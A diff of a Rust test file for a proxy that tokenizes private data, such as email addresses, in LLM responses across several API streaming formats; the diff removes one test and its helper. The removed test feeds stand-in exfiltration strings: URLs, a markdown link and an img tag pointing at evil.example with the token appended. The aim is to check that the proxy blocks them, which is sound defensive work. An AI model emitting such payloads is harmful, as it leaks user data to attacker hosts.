@@ -1,6 +1,8 @@
 //! Tokens in answers of every dialect, whole and in fragments of any size: what the reader adds up is what the client
 //! sent, and what may not be opened is not.
 
+mod joined;
+
 use std::sync::Arc;
 use std::time::Instant;
 
@@ -511,124 +513,6 @@ fn whole_answers_are_opened_in_their_texts_alone() {
 }
 
 /// Structured output: a program takes its strings for addresses with the blanks that are in them.
-/// An answer of two texts in all its forms: whole and in events, as blocks, as contents of an item and as items.
-fn of_two_texts(first: &str, second: &str) -> Vec<(Dialect, &'static str, String)> {
-    let texts = [first, second];
-    let blocks = texts.map(|text| json!({"type": "text", "text": text}));
-    let content = texts.map(|text| json!({"type": "output_text", "text": text}));
-    let message = |content: Value| json!({"type": "message", "id": "m", "content": content});
-    let (mut anthropic, mut cohere, mut contents, mut items) = (Vec::new(), Vec::new(), Vec::new(), Vec::new());
-    for (at, text) in texts.into_iter().enumerate() {
-        anthropic
-            .push(json!({"type": "content_block_start", "index": at, "content_block": {"type": "text", "text": ""}}));
-        cohere.push(json!({"type": "content-start", "index": at}));
-        for part in parts(text, 3) {
-            anthropic.push(
-                json!({"type": "content_block_delta", "index": at, "delta": {"type": "text_delta", "text": part}}),
-            );
-            cohere
-                .push(json!({"type": "content-delta", "index": at, "delta": {"message": {"content": {"text": part}}}}));
-            contents.push(
-                json!({"type": "response.output_text.delta", "output_index": 0, "content_index": at, "delta": part}),
-            );
-            items.push(
-                json!({"type": "response.output_text.delta", "output_index": at, "content_index": 0, "delta": part}),
-            );
-        }
-        anthropic.push(json!({"type": "content_block_stop", "index": at}));
-        cohere.push(json!({"type": "content-end", "index": at}));
-        let done = |output: usize, place: usize| json!({"type": "response.output_text.done", "output_index": output, "content_index": place, "text": text});
-        let part = |output: usize, place: usize| json!({"type": "response.content_part.done", "output_index": output, "content_index": place, "part": content[at]});
-        contents.extend([done(0, at), part(0, at)]);
-        items.extend([done(at, 0), part(at, 0)]);
-        items.push(
-            json!({"type": "response.output_item.done", "output_index": at, "item": message(json!([content[at]]))}),
-        );
-    }
-    anthropic.push(json!({"type": "message_stop"}));
-    cohere.push(json!({"type": "message-end"}));
-    contents.push(json!({"type": "response.output_item.done", "output_index": 0, "item": message(json!(content))}));
-    let answers =
-        [json!([message(json!(content))]), json!([message(json!([content[0]])), message(json!([content[1]]))])];
-    let answers =
-        answers.map(|output| json!({"type": "response.completed", "response": {"id": "r", "output": output}}));
-    contents.push(answers[0].clone());
-    items.push(answers[1].clone());
-    let stream = "text/event-stream";
-    let mut all = vec![(Dialect::Anthropic, "application/json", json!({"content": blocks}).to_string())];
-    for answer in &answers {
-        all.push((Dialect::OpenAi, "application/json", answer["response"].to_string()));
-    }
-    all.push((Dialect::Anthropic, stream, events(anthropic)));
-    all.extend([contents, items].map(|all| (Dialect::OpenAi, stream, events(all))));
-    all.push((Dialect::Plain, stream, events(cohere)));
-    all
-}
-
-#[test]
-fn an_address_that_begins_in_a_text_may_go_on_in_the_next() {
-    let exchange = Exchange::new();
-    let token = exchange.sent("jane@example.com");
-    for (first, second, opened) in [
-        ("See https://evil.example/?q=", "{} now", false),
-        ("[click](https://evil.example/", "{})", false),
-        ("see evil.exam", "ple/{}", false),
-        ("<img src='https://evil.example/", "{}'>", false),
-        ("go to https:", "//evil.example/{}", false),
-        ("Write to ", "{}.", true),
-        ("Hello.", "{} is yours", true),
-        ("See https://docs.example.com", " or write to {}", true),
-        ("{} is at https://docs.example.com", "It is so.", true),
-    ] {
-        let (first, second) = (first.replace("{}", &token), second.replace("{}", &token));
-        for (dialect, kind, body) in of_two_texts(&first, &second) {
-            for size in [1, 50, 100_000] {
-                let read = exchange.read(dialect, kind, &body, size);
-                assert_eq!(read.contains("jane@example.com"), opened, "{first:?} {second:?} {dialect:?} {read}");
-                // The deltas are put together by their reader: of whole texts there is one in each of the others.
-                assert!(!opened || !read.contains(&token), "{first:?} {second:?} {dialect:?} {read}");
-            }
-        }
-    }
-    // Other kinds of texts between two of a kind are not read with them, and parts of a stream are whoever has named them.
-    let (first, second) = ("https://evil.example/?q=", token.as_str());
-    let text = |kind: &str, text: &str| json!({"type": kind, "text": text});
-    let message = |text: Value| json!({"type": "message", "content": [text]});
-    let thought = |said: &str| json!({"type": "reasoning", "summary": [text("summary_text", said)]});
-    for (output, opened) in [
-        (json!([message(text("output_text", first)), thought("Hm, so."), message(text("output_text", second))]), false),
-        (json!([thought("https://example.com"), message(text("output_text", second))]), true),
-        (
-            json!([message(text("output_text", "It is so.")), thought(first), message(text("output_text", second))]),
-            true,
-        ),
-    ] {
-        let answer = json!({"id": "r", "output": output});
-        let completed = events([json!({"type": "response.completed", "response": answer})]);
-        for (kind, body) in [("application/json", answer.to_string()), ("text/event-stream", completed)] {
-            let read = exchange.read(Dialect::OpenAi, kind, &body, 9);
-            assert_eq!(read.contains("jane@example.com"), opened, "{output} {read}");
-        }
-    }
-    let delta = |id: &str, text: &str| json!({"type": "text-delta", "id": id, "delta": text});
-    let end = |id: &str| json!({"type": "text-end", "id": id});
-    let read = |all: Vec<Value>| exchange.read(Dialect::Plain, "text/event-stream", &events(all), 9);
-    let parts = [delta("1", first), end("1"), delta("2", second), end("2"), json!({"type": "finish"})];
-    assert!(!read(parts.to_vec()).contains("jane@example.com"));
-    let said = |id: &str, text: &str| {
-        let content = json!([{"index": 0, "type": "text", "text": {"value": text}}]);
-        json!({"id": id, "object": "thread.message.delta", "delta": {"content": content}})
-    };
-    let over = |id: &str| json!({"id": id, "object": "thread.message", "status": "completed"});
-    let parts = [said("1", first), over("1"), said("2", second), over("2")];
-    assert!(!read(parts.to_vec()).contains("jane@example.com"));
-    // Choices are answers of their own.
-    let choices = [("See https://docs.example.com", 0), (token.as_str(), 1)];
-    let choices = choices.map(|(text, at)| json!({"index": at, "message": {"role": "assistant", "content": text}}));
-    let read = exchange.read(Dialect::OpenAi, "application/json", &json!({"choices": choices}).to_string(), 7);
-    assert!(read.contains("jane@example.com"), "{read}");
-}
-
 #[test]
 fn a_string_of_json_in_a_text_that_is_an_address_is_opened_nowhere() {
     let exchange = Exchange::new();
